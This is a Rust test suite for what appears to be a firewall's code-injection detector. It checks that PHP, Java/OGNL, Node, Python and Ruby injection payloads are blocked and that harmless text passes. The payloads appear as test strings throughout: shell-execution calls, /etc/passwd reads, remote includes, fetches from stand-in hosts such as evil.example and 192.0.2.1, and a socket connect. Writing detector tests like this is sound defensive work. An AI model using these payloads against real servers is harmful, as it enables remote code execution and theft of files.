use crate::detectors::testing::look;
use crate::{Analysis, Class, Detectors, Place};

fn run(text: &str) -> (String, bool) {
    look(Class::Code, Place::Form, "text", text.as_bytes())
}

#[track_caller]
fn attack(text: &str, wanted: &str) {
    let (have, blocks) = run(text);
    for kind in wanted.split_whitespace() {
        assert!(have.split_whitespace().any(|k| k == kind), "{text}\n  wanted {kind}\n  have   {have}");
    }
    assert!(blocks, "{text}\n  have   {have}");
}

#[test]
fn php() {
    attack("system('id');", "execute shell-argument");
    // As a text within another one has it.
    attack("system(\\'id\\')\\", "execute shell-argument");
    attack("';system(\"cat /etc/passwd\");//", "execute shell-argument");
    attack("<?php eval(base64_decode('aWQ=')); ?>", "php-tag eval nested decode");
    attack("eval($_POST['x']);", "eval nested input");
    attack("<?=`$_GET[0]`?>", "php-tag");
    attack("assert(strrev('x'))", "eval nested decode");
    attack("$_GET[a]($_GET[b])", "input variable-call");
    attack("('sys'.'tem')('id')", "text-call");
    attack("call_user_func('system','id')", "callback nested");
    attack("phpinfo()", "info");
    attack("print_r(scandir('/'))", "file nested");
    attack("include('http://192.0.2.1/a.txt')", "file file-argument");
    attack("create_function('','phpinfo();')", "eval nested");
    attack("preg_replace('/.*/e','phpinfo()','')", "callback nested");
    // The name of the function may be joined from pieces.
    for name in ["'sys'.'tem'", "\"s\" . \"ys\" . \"tem\"", "'p'.'a'.'s'.'s'.'t'.'h'.'r'.'u'", "'ass'.'ert'"]
    {
        attack(&format!("call_user_func({name},'id')"), "callback nested");
        attack(&format!("usort($a, {name})"), "callback nested");
    }
    // Whatever stands before the callback.
    for first in ["$a", "new ArrayIterator([1])", "[1]", "range(0, 1)", "1"] {
        attack(&format!("iterator_apply({first}, 'system', ['id'])"), "callback nested");
    }
    for command in ["id", "cat /etc/passwd", "uname -a"] {
        attack(&format!("''.`{command}`.''"), "backtick shell-argument");
    }
    attack("$a='sys'.'tem';$a('id')", "variable-call shell-argument");
    attack("print(md5(31337));", "probe");
    attack("echo 98989*443131;", "probe");
}

#[test]
fn java() {
    attack("T(java.lang.Runtime).getRuntime().exec('id')", "static reflection");
    attack("(#context[\"xwork.MethodAccessor.denyMethodExecution\"]=false)", "ognl");
    attack("new File(\"/etc/passwd\").text", "file file-argument");
    attack("%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}", "static ognl-assign");
    attack("%{#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS}", "ognl");
    attack("''.getClass().forName('java.lang.Runtime').getMethods()", "reflection type");
    attack("new java.lang.ProcessBuilder('id').start()", "type");
}

/// A parameter's name reaches the class loader, whatever its value.
#[test]
fn class_paths_in_names() {
    let detectors = Detectors::new();
    let mut analysis = Analysis::new();
    analysis.target(&detectors, b"/?class.module.classLoader.resources.context.parent.appBase=x");
    assert!(analysis.findings().iter().any(|f| f.kind.id == "code.class-path"));
}

#[test]
fn others() {
    attack("require('child_process').execSync('id')", "module");
    attack("require('../../../../etc/passwd.js')", "file-argument");
    attack("this.constructor.constructor('return process')()", "node");
    attack("global.process.mainModule.require('fs')", "node");
    attack("__import__('os').system('id')", "import");
    attack("''.__class__.__mro__[1].__subclasses__()", "internal dunder");
    attack("os.system('id')", "execute shell-argument");
    attack("exec(\"import os; os.system('id')\")", "execute nested");
    attack("open('/etc/passwd').read()", "file-argument");
    attack("Response.Write(268409241-1)", "probe");
    attack("eval(compile('import os','a','exec'))", "eval nested");
    attack("IO.popen('id').read", "execute shell-argument");
    attack(";system \"touch /tmp/x\"", "execute shell-argument");
    attack("CreateObject(\"WScript.Shell\").Run(\"cmd\")", "object");
    attack("Execute(Request(\"x\")) eval(request(\"x\"))", "input eval");
    attack("os.execute('id')", "execute shell-argument");
}

#[test]
fn benign() {
    for text in [
        "system of a down",
        "chore: remove eval() and exec()",
        "print(\"hello %s\" % name)",
        "console.log(`v=${v}`)",
        "const x = async () => { await fetch(\"/api\"); };",
        "function add(a,b){return a+b;}",
        "require(\"./../config.json\")",
        "const Base = require('../../lib/base-cmd.js')",
        "open('notes.txt')",
        "include('header.php')",
        "import { a } from \"../../lib/utils\";",
        "java.lang.NullPointerException: Cannot invoke \"String.length()\" because \"<local1>\" is null\n\tat com.example.Main.main(Main.java:5)",
        "at java.lang.Thread.run(Thread.java:750)",
        "Caused by: java.net.URL.openStream(URL.java:10)",
        "var m = pattern.exec(text);",
        "=VLOOKUP(\"x\",A1:B9,2,FALSE)",
        "sleep(8 hours) tips",
        "super().__init__(name)",
        "$http.get(url).then(f)",
        "<?xml version=\"1.0\"?><config><debug>true</debug></config>",
        "I use eval rarely (really), and the exec's print run was 7 * 7",
        "constructor(props) { super(props); }",
    ] {
        let (have, blocks) = run(text);
        assert!(!blocks, "{text}: {have}");
    }
}

/// White space, comments and case of PHP names do not matter to the reader.
#[test]
fn mutations_keep_a_detection() {
    for name in ["system", "SYSTEM", "ShEll_exec", "passthru", "popen"] {
        for open in ["(", " (", "/**/(", "/*x*/ ("] {
            for argument in ["'id'", "\"cat /etc/passwd\"", "'/bin/ls -la'", "'curl http://192.0.2.1/x'"] {
                for before in ["", ";", "1;", "'.", "\".@", "${@", "<?php "] {
                    let text = format!("{before}{name}{open}{argument})");
                    let (have, blocks) = run(&text);
                    assert!(blocks, "{text}: {have}");
                }
            }
        }
    }
}

#[test]
fn hostile_texts_end() {
    for unit in
        ["eval(", "a.b.", "T(", "$x(", "('a'.", "<?php ", "__class__.", "@a@", "(#x=", "print(", "system "]
    {
        run(&unit.repeat(10_000));
    }
}

#[test]
fn all_of_the_value() {
    attack("exec('import os')", "execute whole");
    attack("subprocess.call(['id'])", "execute whole");
    attack("create_function('$a', 'echo 1;')", "eval whole");
    attack("show_source('a.php')", "info");
    for text in
        ["file_get_contents('data.json')", "sleep(5 minutes)", "include 'header.php';", "fopen('a.txt', 'r')"]
    {
        let (have, blocks) = run(text);
        assert!(!blocks, "{text}: {have}");
    }
}

#[test]
fn other_ways_to_call() {
    attack("'.phpinfo().'", "info");
    attack("include $_GET['x'];", "input nested");
    attack("usort($a, 'system')", "callback nested");
    attack("(~\u{8c}\u{86})('id')", "text-call");
    attack("\"id\".execute()", "execute nested");
    attack("send(:system, 'id')", "execute nested");
    attack("%x(cat /etc/passwd)", "execute shell-argument");
    attack("qx(id)", "execute shell-argument");
    attack("new ProcessBuilder(new String[]{\"id\"}).start()", "type made");
    attack("<?=`{${~\"x\"}[\"y\"]}`;", "php-tag backtick");
    attack("<jsp:scriptlet>out.println(1);</jsp:scriptlet>", "script-tag");
    attack("${dns:address|a.example}", "lookup");
    attack("${url:UTF-8:http://a.example/}", "lookup");
    attack("\";echo 1234*5678;//", "probe");
}

#[test]
fn names_and_headers() {
    let (have, blocks) = look(Class::Code, Place::Name, "", b"mail[#post_render][]");
    assert!(blocks, "{have}");
    let (have, blocks) = look(Class::Code, Place::Header, "User-Agentt", b"zerodiumvar_dump(2*3);");
    assert!(blocks, "{have}");
    let (have, blocks) = look(Class::Code, Place::Name, "", b"tag[#news]");
    assert!(!blocks, "{have}");
}

#[test]
fn spoken_of() {
    for text in [
        "What is phpinfo() for?",
        "I wrote `$name = $_POST['name'];` yesterday",
        "see eval (the built-in)",
        "operating system (Linux (any))",
    ] {
        let (have, blocks) = run(text);
        assert!(!blocks, "{text}: {have}");
    }
}

/// What a language does not care about keeps the detection: white space, comments, the sort of quotes, the
/// case of PHP's names.
#[test]
fn what_languages_do_not_care_about() {
    let calls = [
        "system('id')",
        "phpinfo()",
        "eval(base64_decode('x'))",
        "passthru('cat /etc/passwd')",
        "__import__('os').system('id')",
        "require('child_process').exec('id')",
        "T(java.lang.Runtime).getRuntime().exec('id')",
        "new java.lang.ProcessBuilder('id').start()",
    ];
    for call in calls {
        let mut forms = vec![
            call.to_owned(),
            call.replace('\'', "\""),
            call.replace('(', " ("),
            call.replace('(', "(\n"),
            call.replace('(', "(\t "),
            format!("  {call} ;"),
            format!("';{call};//"),
            format!("\"+{call}+\""),
        ];
        if !call.contains("__") {
            forms.push(call.replace('(', "/*x*/("));
            forms.push(call.replace('(', "(/*x*/"));
        }
        if !call.contains('.') && !call.contains("__") {
            forms.push(call.to_ascii_uppercase());
            forms.push(format!("@{call};"));
            forms.push(format!("<?php {call};"));
        }
        for form in forms {
            let (have, blocks) = look(Class::Code, Place::Query, "q", form.as_bytes());
            assert!(blocks, "{form}: {have}");
        }
    }
}

#[test]
fn names_as_values() {
    let blocked = |place: Place, name: &str, text: &str| look(Class::Code, place, name, text.as_bytes()).1;
    assert!(blocked(Place::Form, "_method", "__construct"));
    assert!(blocked(Place::Query, "function", "call_user_func_array"));
    assert!(
        !blocked(Place::Query, "q", "call_user_func_array") && !blocked(Place::Json, "function", "__call")
    );
    attack("<? echo('<scr)';echo('ipt>x</script>'); ?>", "php-tag php-block");
}

#[test]
fn a_name_in_parentheses_is_called() {
    attack("(system)('id')", "execute text-call");
    attack("Process.Start(\"cmd\",\"/c dir\")", "execute");
}

#[test]
fn loops_without_end() {
    attack("while(1){}", "endless");
    attack("{${system(id)}}", "text-call");
    attack("require('fs').readdirSync('.').toString()", "module");
    attack("require('net').connect(4444,'192.0.2.1')", "module");
    assert!(!run("const fs = require('fs').promises; // then fs.readFile(x)").1);
    attack("require('fs').readFileSync() does what exactly?", "module");
    assert!(!run("{${name}}").1);
    attack("';for(;;);//", "endless");
    assert!(!run("while(1){ read(); }").1);
    assert!(!run("for(;;) is a loop without an end").1);
}

/// Who may write code in a field calls a type of the language; by its name it is loaded past what the
/// language allows.
#[test]
fn types_loaded_by_name() {
    let at = |name: &str, text: &str| look(Class::Code, Place::Json, name, text.as_bytes());
    let load = "java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\").getText()";
    for name in ["script_fields.a.script", "code", "q"] {
        let (kinds, is_blocked) = at(name, load);
        assert!(is_blocked && kinds.contains("loaded"), "{name}: {kinds}");
    }
    assert!(!at("script", "Class.forName(\"org.postgresql.Driver\"); doc['price'].value * 2").1);
    attack("file_put_contents('a.php','x');", "file-argument");
    attack("getattr(__builtins__,'ev'+'al')('1')", "internal");
    assert!(!run("file_get_contents('a.txt');").1);
}

#[test]
fn packages_includes_and_joined_calls() {
    use crate::detectors::testing::{blocks, passes_at};
    for text in [
        "@GrabResolver(name='o', root='http://evil.example/')\n@Grab('p:m:1')\nimport Payload;",
        "include 'http://evil.example/x.txt';",
        "require_once(\"php://input\")",
        "'.print(1).'",
        "\".system('id').\"",
        "(function(){return process.env})()",
        "${base64Decoder:SGVsbG8=}",
        "{\"#markdown\":\"PRE\",\"#post_render\":[\"exec\"]}",
    ] {
        blocks(Class::Code, text, "");
    }
    for text in [
        "prices include 'http://a.example'",
        "#include \"a.h\"",
        "'.hidden(1)'",
        "email @Grab (it) now",
        "see @Grab(it) for a lift",
        "${base64Decoder}",
    ] {
        passes_at(Class::Code, Place::Query, "q", text);
    }
}

/// PHP calls what stands in parentheses, and runs what a request gives to an include or a call.
#[test]
fn calls_of_what_a_request_gives() {
    use crate::detectors::testing::{blocks, look, passes_at};
    for text in [
        "'.(system)(id).'",
        "(\"system\")(\"id\");",
        "('exec')($x)",
        "'.`$_GET[0]`.'",
        "'.`id`.'",
        "1;include($_GET[0]);",
        "require_once ($_COOKIE['x']);",
        "'.$_GET[0]($_GET[1]).'",
        "$_REQUEST['f']('id')",
        "usort(...$_GET);",
        "unserialize($_COOKIE['x']);",
        "extract($_REQUEST);",
    ] {
        blocks(Class::Code, text, "");
        for name in ["coupon_code", "name"] {
            assert!(look(Class::Code, Place::Form, name, text.as_bytes()).1, "{name}={text}");
        }
    }
    for text in [
        "Dalvik/2.1.0 (Linux; U; Android 10) (Android)(10)(null)",
        "use `code` and `more` '.`",
        "the value of $_GET is an array",
        "echo htmlspecialchars($title);",
        "(exec)(s)",
        "('a')('b')",
        "sort(...$values)",
        "extract($options)",
    ] {
        passes_at(Class::Code, Place::Query, "q", text);
        passes_at(Class::Code, Place::Form, "text", text);
    }
    // A field for code takes what computes.
    for text in ["<?php\ninclude($_GET['page'] . '.php');", "<?php system('id');"] {
        assert!(look(Class::Code, Place::Form, "code", text.as_bytes()).1, "{text}");
    }
    assert!(!look(Class::Code, Place::Form, "code", b"<?php\nprint(md5(123) . phpversion());").1);
}

/// A field for code takes programs; what a program does not need stays an attack there: a web shell, and what
/// reaches past what the field's language allows.
#[test]
fn what_no_field_for_code_is_for() {
    for (name, text) in [
        ("code", "<?php system($_GET[1]);"),
        ("snippet", "<?php eval($_POST[\"x\"]);"),
        ("code", "__import__('os').system('id')"),
        ("code", "().__class__.__base__.__subclasses__()"),
        ("code", "import os\nos.system('ls')"),
        ("code", "<?php echo $_GET['q'];"),
    ] {
        for place in [Place::Json, Place::Form] {
            let (have, blocks) = look(Class::Code, place, name, text.as_bytes());
            assert!(blocks, "{name}={text}: {have}");
        }
    }
    for (name, text) in [
        ("code", "import os\nprint(os.name)"),
        ("code", "<?php echo htmlspecialchars($title);"),
        ("script", "print(open('x.txt').read())"),
        ("source_code", "const fs = require('fs');\nfs.readFileSync('a.txt')"),
    ] {
        let (have, blocks) = look(Class::Code, Place::Json, name, text.as_bytes());
        assert!(!blocks, "{name}={text}: {have}");
    }
}
